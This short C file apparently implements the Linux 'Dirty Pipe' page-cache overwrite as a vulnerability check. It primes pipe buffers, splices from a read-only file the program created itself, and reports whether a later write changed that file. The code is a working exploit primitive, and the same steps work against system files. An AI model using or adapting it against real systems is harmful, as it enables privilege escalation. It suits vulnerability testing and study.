#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>

/* Returns whether a wall has fallen. */
int attack(void)
{
	int ends[2], file = open("mine", O_CREAT | O_WRONLY, 0400);
	char page[4096] = "", seen = 0;
	off_t at = 0;

	write(file, "oooo", 4);
	close(file);
	file = open("mine", O_RDONLY);
	pipe(ends);
	for (int i = 0; i < 16; i++) /* leaves a flag on every buffer of the pipe */
		write(ends[1], page, sizeof page);
	for (int i = 0; i < 16; i++)
		read(ends[0], page, sizeof page);
	splice(file, &at, ends[1], 0, 1, 0);
	write(ends[1], "x", 1);
	pread(file, &seen, 1, 1);
	return seen == 'x';
}
